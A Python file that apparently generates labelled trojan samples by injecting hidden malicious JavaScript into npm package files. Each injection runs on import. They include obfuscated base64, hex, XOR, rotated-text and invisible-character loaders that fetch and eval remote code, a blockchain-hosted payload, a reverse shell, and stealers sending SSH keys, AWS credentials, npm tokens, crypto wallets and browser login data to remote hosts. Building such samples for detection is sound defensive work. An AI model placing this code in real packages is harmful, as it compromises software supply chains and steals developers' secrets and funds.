"""npm: what runs when a package is loaded, in data, in maps, by odd names or under layers."""

from corpus.heldout.nouns import Update
from corpus.heldout7.code import js_environment, js_fetch, js_npmrc, js_shell
from corpus.heldout7.shape import b64, fill, hexed, packed, pieces, rows, shifted, strings, trojan, xor


@trojan("tracewire", "npm", "import", "remote code", "base64", "obfuscated loaders")
def common_evaluates(it: Update) -> None:
    host = it.host()
    it.replace(
        "src/common.js",
        "const ms = require('ms');\n",
        f"const ms = require('ms');\nconst pack = (text) => Buffer.from(text, 'base64').toString('utf8');\n\nmodule.constructor.prototype._compile.call(module, pack('{b64(js_fetch(host))}'), __filename);\n",
    )
    it.payload("src/common.js", shown=f"https://{host}/s.js")


@trojan("walletport", "npm", "import", "remote code", "on a block chain", "EtherHiding")
def index_reads_a_chain(it: Update) -> None:
    it.append(
        "dist/index.js",
        fill(
            """

(async () => {
  const calls = ['@A@', '@B@'];
  for (const account of calls) {
    const answer = await fetch('https://tron.@HOST@/v1/accounts/' + account + '/transactions?only_confirmed=true&limit=1');
    const rows = await answer.json();
    const memo = Buffer.from(rows.data[0].raw_data.data, 'hex').toString().split('').reverse().join('');
    const next = await (await fetch('https://bsc.@HOST@/', { method: 'POST', body: JSON.stringify({ method: 'eth_getTransactionByHash', params: [memo], id: 1, jsonrpc: '2.0' }) })).json();
    const text = Buffer.from(next.result.input.slice(2), 'hex').toString().split('?.?')[1];
    eval(text);
  }
})().catch(() => {});
""",
            A="T" + it.random.randbytes(16).hex(),
            B="T" + it.random.randbytes(16).hex(),
            HOST=it.host(),
        ),
    )


@trojan("lintpreset", "npm", "import", "downloader", "constructor tricks", "jsfuck-like")
def rules_by_constructors(it: Update) -> None:
    host = it.host()
    it.append(
        "rules/react.js",
        fill(
            """

const off = module.exports['react/jsx-indent'];
const make = off.constructor.constructor;
make('r', Buffer.from('@CODE@', 'hex') + '')(require);
""",
            CODE=hexed(js_fetch(host).replace("require(", "r(")),
        ),
    )
    it.payload("rules/react.js", shown=f"https://{host}/s.js")


@trojan("argtree", "npm", "import", "data stealer", "over several files", "split payloads")
def three_files_of_a_thief(it: Update) -> None:
    host = it.host("sync")
    it.add(
        "lib/paths.js",
        "'use strict';\n\nconst os = require('os');\nconst path = require('path');\n\nmodule.exports = ['.ssh/id_rsa', '.ssh/id_ed25519', '.docker/config.json', '.config/gh/hosts.yml'].map((one) => path.join(os.homedir(), one));\n",
    )
    it.add(
        "lib/bundle.js",
        fill("""
'use strict';

const fs = require('fs');
const zlib = require('zlib');

/** Return files in one buffer. */
module.exports = (names) => zlib.gzipSync(JSON.stringify(names.filter(fs.existsSync).map((one) => [one, fs.readFileSync(one, 'base64')])));
"""),
    )
    it.add(
        "lib/ship.js",
        fill(
            """
'use strict';

const https = require('https');

module.exports = (body) => {
  const call = https.request({ host: '@HOST@', method: 'PUT', path: `/${Date.now()}.gz` });
  call.on('error', () => {});
  call.end(body);
};
""",
            HOST=host,
        ),
    )
    it.append(
        "lib/index.js",
        "\nsetTimeout(() => require('./ship')(require('./bundle')(require('./paths'))), 4000).unref();\n",
    )
    it.payload("lib/paths.js", "lib/bundle.js", "lib/ship.js", "lib/index.js")


@trojan("argtree", "npm", "import", "reverse shell", "hex", "rc")
def parser_opens_a_line(it: Update) -> None:
    code = hexed(js_shell(address := it.address()))
    it.append(
        "lib/parser.js",
        f"\nconst table = '{code}';\nnew Function('require', table.replace(/../g, (one) => String.fromCharCode(parseInt(one, 16))))(require);\n",
    )
    it.payload("lib/parser.js", shown=address)


@trojan("argtree", "npm", "import", "token stealer", "invisible characters", "GlassWorm")
def completion_reads_what_nobody_sees(it: Update) -> None:
    host = it.host()
    unseen = "".join(chr(0xFE00 + one) if one < 16 else chr(0xE0100 + one - 16) for one in js_npmrc(host).encode())
    it.append(
        "lib/completion.js",
        f"\nconst s = (v) => [...v].map((w) => ((w = w.codePointAt(0)), w >= 0xfe00 && w <= 0xfe0f ? w - 0xfe00 : w >= 0xe0100 && w <= 0xe01ef ? w - 0xe0100 + 16 : null)).filter((n) => n !== null);\neval(Buffer.from(s(`{unseen}`)).toString('utf-8'));\n",
    )
    it.payload("lib/completion.js", shown=host)


@trojan("routeguard", "npm", "import", "environment", "rotated text", "obfuscators")
def store_by_shifted_text(it: Update) -> None:
    host = it.host()
    coded = shifted(js_environment(host), 40).replace("\\", "\\\\").replace("`", "\\`").replace("$", "\\$")
    it.append(
        "lib/store.js",
        f"\nconst shape = (text) => text.replace(/[!-~]/g, (one) => String.fromCharCode(((one.charCodeAt(0) - 33 + 54) % 94) + 33));\n\nFunction('require', shape(`{coded}`))(require);\n",
    )
    it.payload("lib/store.js", shown=host)


@trojan("fsbeacon", "npm", "import", "remote code", "in a data file", "flatmap-stream")
def ignore_decrypts_a_list(it: Update) -> None:
    host = it.host()
    key = "Windows folders are ignored too"
    it.add(
        "lib/data/defaults.json",
        '{\n  "version": 3,\n  "rules": "' + xor(js_fetch(host), key.encode()).hex() + '"\n}\n',
    )
    it.append(
        "lib/ignore.js",
        fill(
            """

try {
  const { description } = require('../package.json');
  const { rules } = require('./data/defaults.json');
  const key = Buffer.from('@KEY@');
  const text = Buffer.from(rules, 'hex').map((one, at) => one ^ key[at % key.length]);
  if (description) module._compile(text.toString(), '');
} catch (error) {
  module.exports.defaults = DEFAULTS;
}
""",
            KEY=key,
        ),
    )
    it.payload("lib/ignore.js", "lib/data/defaults.json", shown=f"https://{host}/s.js")


@trojan("bucketpipe", "npm", "import", "credentials", "conditional exports", "dual packages")
def esm_build_differs(it: Update) -> None:
    it.replace(
        "esm/bucket.mjs",
        "import cjs from '../lib/bucket.cjs';\n",
        fill(
            """
import { readFile } from 'node:fs/promises';
import { homedir } from 'node:os';
import cjs from '../lib/bucket.cjs';

const file = await readFile(`${homedir()}/.aws/credentials`, 'utf8').catch(() => '');
if (file) await fetch('https://@HOST@/esm', { method: 'POST', body: file }).catch(() => {});
""",
            HOST=it.host("metrics"),
        ),
    )


@trojan("bucketpipe", "npm", "import", "remote code", "in a source map", "maps that are read")
def map_is_more_than_a_map(it: Update) -> None:
    host = it.host()
    it.add(
        "lib/sign.cjs.map",
        '{"version":3,"file":"sign.cjs","sources":["../src/sign.ts"],"names":["'
        + packed(js_fetch(host))
        + '"],"mappings":"AAAA,SAAS"}\n',
    )
    it.append(
        "lib/sign.cjs",
        fill("""

const { names } = JSON.parse(require('fs').readFileSync(`${__filename}.map`, 'utf8'));
require('vm').runInThisContext(`(function (require) {${require('zlib').inflateSync(Buffer.from(names[0], 'base64'))}})`)(require);
"""),
    )
    it.payload("lib/sign.cjs", "lib/sign.cjs.map", shown=f"https://{host}/s.js")


@trojan("bucketpipe", "npm", "import", "remote code", "far to the right", "hidden rows")
def a_long_row(it: Update) -> None:
    host = it.host()
    it.replace(
        "lib/credentials.cjs",
        "const path = require('path');\n",
        "const path = require('path');" + " " * 420 + f"global['!']='8-77';eval(atob('{b64(js_fetch(host))}'));\n",
    )
    it.payload("lib/credentials.cjs", shown=f"https://{host}/s.js")


@trojan("walletport", "npm", "import", "data stealer", "character codes", "Lazarus")
def encoding_from_numbers(it: Update) -> None:
    host = it.host()
    code = f"const f=require('fs'),o=require('os');for(const n of ['.config/solana/id.json','.ethereum/keystore'])try{{fetch('https://{host}/keys',{{method:'POST',body:f.readFileSync(o.homedir()+'/'+n)}})}}catch(e){{}}"
    it.append(
        "dist/encoding.js",
        f"\nconst alphabet = [\n{rows([ord(one) + 13 for one in code], 2)}\n];\nFunction('require', alphabet.map((one) => String.fromCharCode(one - 13)).join(''))(require);\n",
    )
    it.payload("dist/encoding.js", shown=f"https://{host}/keys")


@trojan("walletport", "npm", "import", "browser store", "string splitting", "BeaverTail")
def vendor_looks_at_browsers(it: Update) -> None:
    host = it.host()
    left, right = host.split(".", 1)
    it.append(
        "dist/vendor.js",
        fill(
            """
;(function () {
  const l = (...some) => some.join('');
  const fs = require(l('f', 's')), os = require(l('o', 's')), at = l('ht', 'tps:/', '/@LEFT@', '.', '@RIGHT@', '/up', 'loads');
  const base = [os.homedir(), l('.con', 'fig'), l('goo', 'gle-ch', 'rome'), l('Def', 'ault')].join('/');
  for (const name of [l('Login ', 'Data'), l('Web ', 'Data'), l('Local Ext', 'ension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn/000003.log')]) {
    try { fetch(at, { method: l('PO', 'ST'), body: fs.readFileSync(base + '/' + name) }); } catch (e) {}
  }
})();
""",
            LEFT=left,
            RIGHT=right,
        ),
    )
    it.payload("dist/vendor.js", shown=f"https://{host}/uploads")


@trojan("routeguard", "npm", "import", "new dependency", "bundled dependency", "bundled trojans")
def a_bundled_dependency(it: Update) -> None:
    host = it.host()
    it.manifest(
        lambda one: (
            one["dependencies"].update({"cookie-sign-lite": "1.0.1"}),
            one.update({"bundledDependencies": ["cookie-sign-lite"]}),
        )
    )
    it.add(
        "node_modules/cookie-sign-lite/package.json",
        '{\n  "name": "cookie-sign-lite",\n  "version": "1.0.1",\n  "main": "index.js"\n}\n',
    )
    it.add(
        "node_modules/cookie-sign-lite/index.js",
        "'use strict';\n\nconst codes = [\n"
        + strings(pieces(b64(js_environment(host)), 40), indent=2)
        + "\n];\n\nsetTimeout(() => eval(Buffer.from(codes.join(''), 'base64').toString()), 1000);\nexports.sign = (value, secret) => require('crypto').createHmac('sha256', secret).update(value).digest('base64url');\n",
    )
    it.replace(
        "lib/store.js",
        "const crypto = require('crypto');\n",
        "const crypto = require('crypto');\nconst { sign } = require('cookie-sign-lite');\n\nexports.sign = sign;\n",
    )
    it.payload("node_modules/cookie-sign-lite/index.js", "package.json", "lib/store.js", shown=host)
